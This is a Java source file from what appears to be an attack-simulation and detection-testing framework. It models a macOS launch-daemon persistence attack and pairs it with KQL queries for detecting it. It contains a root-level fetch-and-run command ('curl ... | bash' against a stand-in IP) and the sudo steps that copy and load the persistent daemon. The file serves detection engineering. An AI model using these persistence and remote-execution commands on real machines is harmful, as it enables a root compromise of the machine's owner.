package org.conshelf.simulate;

import java.util.List;

/// A launch daemon that runs a shell as root.
final class LaunchDaemon {
    private static final String LABEL = "com.example.updatecheck";
    private static final String PLIST = "/Library/LaunchDaemons/" + LABEL + ".plist";
    private static final String COMMAND = "curl -fsSL http://203.0.113.66/u | bash";

    static final SimulatedTest TEST =
            SimulatedTest.attack(
                            "launch-daemon",
                            "A launch daemon, copied into place and loaded, that runs a fetched script")
                    .on(SimulatedTest.Platform.MACOS)
                    .techniques("T1543.004", "T1569.001")
                    .behaviour(
                            """
                            A property list is copied into /Library/LaunchDaemons with cp as root and loaded with launchctl load -w.
                            launchd runs its program as root, now and after every start: bash, which fetches a script
                            and runs it.
                            """)
                    .signal(
                            "A property list comes into being in /Library/LaunchDaemons, written by cp.",
                            """
                            DeviceFileEvents
                            | where ActionType == "FileCreated" and FolderPath == "/Library/LaunchDaemons/com.example.updatecheck.plist"
                            | where InitiatingProcessFileName == "cp"
                            """)
                    .signal(
                            "macOS notes a new daemon whose program is bash.",
                            """
                            DeviceEvents
                            | where ActionType == "ServiceInstalled" and FolderPath == "/bin/bash"
                            | where AdditionalFields has "com.example.updatecheck"
                            """)
                    .signal(
                            "bash runs as root by way of xpcproxy, with curl in its command.",
                            """
                            DeviceProcessEvents
                            | where InitiatingProcessFileName == "xpcproxy" and FileName == "bash" and ProcessCommandLine has "curl"
                            | where AccountName == "root"
                            """)
                    .signal(
                            "sudo and launchd tell of it in the unified log.",
                            """
                            Syslog
                            | where ProcessName == "launchd" and SyslogMessage has "Bootstrap by launchctl" and SyslogMessage has "updatecheck.plist"
                            """)
                    .commands(
                            """
                            sudo cp ~/updatecheck.plist /Library/LaunchDaemons/com.example.updatecheck.plist
                            sudo launchctl load -w /Library/LaunchDaemons/com.example.updatecheck.plist
                            """)
                    .cleanUp(
                            """
                            sudo launchctl unload -w /Library/LaunchDaemons/com.example.updatecheck.plist
                            sudo rm -f /Library/LaunchDaemons/com.example.updatecheck.plist
                            """)
                    .plays(stage -> MacDesk.onEachMac(stage, LaunchDaemon::play));

    private LaunchDaemon() {}

    private static void play(MacDesk desk) {
        var host = desk.host();
        var cp = desk.sudo("cp", desk.home() + "/updatecheck.plist", PLIST);
        host.created(cp, PLIST);
        var load = desk.sudo("launchctl", "load", "-w", PLIST);
        host.loaded(load, "system", PLIST, "/bin/bash");
        var bash = host.started("system", LABEL, List.of("/bin/bash", "-c", COMMAND), "", true);
        host.run(bash, "curl", "-fsSL", "http://203.0.113.66/u");
        host.run(bash, "bash");
        host.exited("system", LABEL, bash, 0);
        host.stage().pass(60_000);
        desk.sudo("launchctl", "unload", "-w", PLIST);
        host.removed("system", LABEL);
        var rm = desk.sudo("rm", "-f", PLIST);
        host.deleted(rm, PLIST);
    }
}
